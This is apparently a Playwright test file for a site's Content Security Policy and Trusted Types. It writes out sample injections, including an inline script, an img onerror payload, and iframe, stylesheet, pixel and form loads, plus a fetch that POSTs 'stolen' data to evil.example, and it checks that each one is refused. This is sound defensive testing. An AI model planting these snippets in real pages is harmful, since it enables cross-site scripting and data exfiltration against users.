import { expect, test } from '../browser/test.ts';

test('the next page is there before the click', async ({ page }) => {
  await page.goto('/');
  const prefetched = page.context().waitForEvent('request', (request) => request.url().endsWith('/cgu'));
  await page.locator('footer a[href="/cgu"]').hover();
  expect((await (await prefetched).allHeaders())['sec-purpose']).toBe('prefetch');
});

test.describe('what an attacker plants is refused:', () => {
  test.use({ expectedNoise: [/Content Security Policy|Trusted(HTML|Script|Type)|evil\.(example|localhost)|violates/] });

  test.beforeEach(async ({ page }) => {
    await page.goto('/deployment');
  });

  test('an inline script in the page', async ({ page }) => {
    await page.route('**/hosting', async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace('</body>', '<script>window.planted = 1</script></body>');
      await route.fulfill({ response, body });
    });
    await page.goto('/hosting');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(await page.evaluate(() => 'planted' in window)).toBe(false);
  });

  test('scripts, markup, a policy that would trust it, frames, requests, styles, images and forms of another', async ({
    page,
  }) => {
    const refused = new Set<string>();
    await page.exposeFunction('refuses', (directive: string) => refused.add(directive));
    await page.evaluate(() => {
      const { refuses } = window as unknown as { refuses(directive: string): void };
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refuses(effectiveDirective));
    });
    const attacks: (() => unknown)[] = [
      () => document.body.append(Object.assign(document.createElement('script'), { text: 'window.planted = 1' })),
      () => {
        document.body.innerHTML = '<img src=x onerror="window.planted = 1">';
      },
      () => {
        const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy: (...args: unknown[]) => void } };
        trustedTypes.createPolicy('default', { createHTML: (text: string) => text });
      },
      () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' })),
      () => fetch('https://evil.example/', { method: 'POST', body: 'stolen' }),
      () => {
        const href = 'https://evil.example/style.css';
        document.body.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href }));
      },
      () => Object.assign(new Image(), { src: 'https://evil.example/pixel.png' }).src,
    ];
    for (const attack of attacks) await page.evaluate(attack).catch(() => undefined);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await page.evaluate(() => {
      const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' });
      document.body.append(form);
      form.submit();
    });
    const directives = ['connect-src', 'form-action', 'frame-src', 'img-src', 'require-trusted-types-for'];
    await expect.poll(() => [...refused].sort()).toEqual([...directives, 'style-src-elem', 'trusted-types']);
    expect(await page.evaluate(() => 'planted' in window)).toBe(false);
  });
});
